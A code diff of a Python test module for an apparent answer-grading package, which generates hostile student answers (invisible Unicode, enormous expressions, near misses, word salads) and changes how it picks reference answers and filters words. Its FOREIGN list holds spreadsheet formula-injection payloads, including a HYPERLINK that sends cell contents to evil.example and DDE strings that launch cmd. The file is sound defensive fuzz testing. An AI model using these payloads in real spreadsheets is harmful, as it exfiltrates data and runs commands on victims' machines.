@@ -1,5 +1,6 @@
-# ruff: noqa: E501
 """What strangers may write under a question: nasty answers to any kind of answer, none of them right."""
+
+# ruff: noqa: E501  tables of attacks, some of them long
 
 from __future__ import annotations
 
@@ -12,9 +13,10 @@ from types import MappingProxyType
 from typing import Final
 
 from hwsolve.errors import HwsolveError
+from hwsolve.grading.check import check_answer
 from hwsolve.meaning.comparison.compare import equal
 from hwsolve.meaning.comparison.outcome import Agrees, Proved
-from hwsolve.notation.formula import ZERO
+from hwsolve.notation.formula import ONE, ZERO
 from hwsolve.problem.problem import Answer, Part
 from tests.hostile.corpus import GROUPS
 
@@ -36,7 +38,7 @@ WRAPPERS: Final = (
 SIGNS: Final = (
     "\x00\x07\x08\x1b\x7f\x85\xad\u034f\u061c\u115f\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202d"
     "\u202e\u2060\u2066\u2069\ufeff\ufff9\ufffd\uffff\ud800\udfff\U000e0041\U0001f600\u0301\u0336\u0489\u20dd"
-    "аеорсухіАВЕКМНОРСТХαοΑΒ１２＋＝（）∕⁄−‐–—×·∙⋅•′″“”‘’„«»ﬁℎℯℓ∆∑∏µΩKÅ²₂½٣๓〇ⅫⅡ㎡㏑"
+    "аеорсухіАВЕКМНОРСТХαοΑΒ１＋＝（）∕⁄−‐–—×·∙⋅•′″“”‘’„«»ﬁℎℯℓ∆∑∏µΩKÅ²₂٣๓〇ⅫⅡ㎡㏑"
 )
 FOREIGN: Final = (
     '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
@@ -60,6 +62,9 @@ FOREIGN: Final = (
 )  # fmt: skip
 
 
+LOADED: Final = tuple("yes no true false convex guaranteed not always never either both 1 0 zzz".split())
+
+
 @dataclass(frozen=True)
 class Asked:
     """A question as its enemies see it: names they can use, and what to begin with.
@@ -81,12 +86,16 @@ class Asked:
 _NOT_PLAIN: Final = re.compile(r"[=\n;,]|\\quad")
 
 
-def _zero(part: Part, text: str) -> bool:
-    """Whether a formula is 0, so that any multiple of it is right."""
-    try:
-        return isinstance(equal(part.scope.parse(text), ZERO, part.scope), Proved | Agrees)
-    except HwsolveError:
+def _plain(part: Part, text: str) -> bool:
+    """Whether a little more or less, or a power, of a formula is another value: it is neither 0 nor 1."""
+    if _NOT_PLAIN.search(text):
         return False
+    try:
+        formula = part.scope.parse(text)
+        found = [equal(formula, each, part.scope) for each in (ZERO, ONE)]
+    except HwsolveError:
+        return True
+    return not any(isinstance(each, Proved | Agrees) for each in found)
 
 
 def asked(part: Part, answer: Answer) -> Asked:
@@ -94,8 +103,8 @@ def asked(part: Part, answer: Answer) -> Asked:
     known = [name for name in (*part.scope.types, *part.scope.definitions) if name.isidentifier()]
     if answer.kind in EXACT:
         right = [str(text) for text in (*answer.references, *answer.tests.right)]
-        plain = tuple(text for text in right if not _NOT_PLAIN.search(text) and not _zero(part, text))
-        return Asked(part, answer, tuple(known) or ("x",), plain or ("1",))
+        plain = tuple(text for text in right if _plain(part, text))
+        return Asked(part, answer, tuple(known) or ("x",), plain or ("17",))
     wrong = (*answer.tests.wrong, *(slip.when for slip in answer.mistakes))
     return Asked(part, answer, tuple(known) or ("x",), tuple(map(str, wrong)) or ("x = x + 1",))
 
@@ -131,7 +140,9 @@ def repeated(on: Asked, draw: Random) -> str:
     pieces = [draw.choice((*PIECES, *on.names)) for _ in range(draw.randint(1, 4))]
     unit = draw.choice(("", " ", "\n")).join(pieces) + draw.choice(("", " "))
     times = draw.choice((10, 300, 4000, 99_000 // (len(unit) or 1)))
-    return draw.choice(("", draw.choice(on.right))) + unit * min(times, 99_000 // (len(unit) or 1))
+    return draw.choice(
+        ("", f"2*({draw.choice(on.right)})" if on.exact else draw.choice(on.right))
+    ) + unit * min(times, 99_000 // (len(unit) or 1))
 
 
 def shuffled(on: Asked, draw: Random) -> str:
@@ -157,7 +168,7 @@ def towers(on: Asked, draw: Random) -> str:
     right = draw.choice(on.right)
     return draw.choice((
         f"{a}^9^9^9", f"9^9^{a}^9^9", "^".join([a, b, "9"] * min(size, 300)), f"({right})^(10^{size})",
-        f"{right} + {'9' * size}", f"{right} * 0.{'0' * size}1", f"10^10^10*({right})", f"({right}) - {a}^{size}",
+        f"{right} + {'9' * size}", f"{right} * 0.{'0' * size}1", f"10^10^10*({right})", f"({right}) - {a}^{{{size}}}",
         f"factorial({size}^3)*{a}", f"({a})" + "!" * min(size, 50), f"1e{size}^{a}", f"exp(exp(exp({size}*{a})))",
         f"({a} + {b} + 1)^{size}", f"binomial({size}^4, {size}^2) + {right}", f"gamma({a}^{size})", f"floor(10^{size}*{a})",
         f"mod(7^(10^{size}), {a})", f"sin(10^{size}*{a})", f"({a}^({b}^({a}^({b}^{size}))))", f"1/({a}-{a})", "0^0^0/0",
@@ -199,7 +210,7 @@ def great_arrays(on: Asked, draw: Random) -> str:
 
 def near_misses(on: Asked, draw: Random) -> str:
     """The right answer, changed where samples might not see it."""
-    right, _a = draw.choice(on.right), draw.choice(on.names)
+    right = draw.choice(on.right)
     if on.exact and on.part.scope.given:
         return f"({right})*(1 + 10^-{draw.choice((9, 20, 30))})"  # equations are met to some bits only
     if not on.exact or re.search(r"[=\n<>]|where|begin|cases|≥|≤", right):
@@ -219,29 +230,21 @@ def working(on: Asked, draw: Random) -> str:
         f"Hence {right} <= {a} <= 2*({right}).\n", f"- {a}\n", f"(1) {a} = 1 by (2)\n", f"if {a} then 2*({right})\n", f"## {a}\n2*({right})\n",
         f"$$ {right} \\neq {right} $$\n", f"{a} = 2*({right}) = {a} = ", f"therefore => {a}\n", f"| {a} | {right} |\n", f"{a}(1) = 2*({right}), ",
     ))  # fmt: skip
-    return (unit * count)[:99_000] + draw.choice((f"{a} = {a} + 1", "0 = 1", "QED", ""))
+    return (unit * count)[:99_000] + draw.choice((f"{a} = {a} + 1", "0 = -17.25", "QED", ""))
+
+
+def _chooses(on: Asked, word: str) -> bool:
+    """Whether one word says everything."""
+    return word in ("not", "no", "never") or check_answer(on.part, on.answer, word).verdict == "correct"
 
 
 def words(on: Asked, draw: Random) -> str:
     """Every word that the problem itself uses, none of them a sentence."""
-    vocabulary = re.findall(r"\w+", f"{on.part.ask} {on.part.title} {' '.join(on.right)}") or ["x"]
-    extra = (
-        "yes",
-        "no",
-        "true",
-        "false",
-        "convex",
-        "guaranteed",
-        "not",
-        "always",
-        "never",
-        "either",
-        "both",
-        "1",
-        "0",
-    )
-    chosen = [draw.choice((*vocabulary, *extra)) for _ in range(draw.choice((2, 12, 200, 8000)))]
-    return draw.choice((" ", " not ", " or ", "\n", ", ")).join(chosen) + " 17 zzz"
+    said = re.findall(r"\w+", f"{on.part.ask} {on.part.title} {' '.join(on.right)}")
+    vocabulary = [word for word in (*said, *LOADED) if on.answer.kind != "choice" or not _chooses(on, word)]
+    chosen = [draw.choice(vocabulary) for _ in range(draw.choice((2, 12, 200, 8000)))]
+    between = (" ", " or ", "\n", ", ") if on.answer.kind == "choice" else (" ", " not ", " or ", "\n", ", ")
+    return draw.choice(between).join(chosen) + " 17 zzz"
 
 
 def other_languages(on: Asked, draw: Random) -> str:
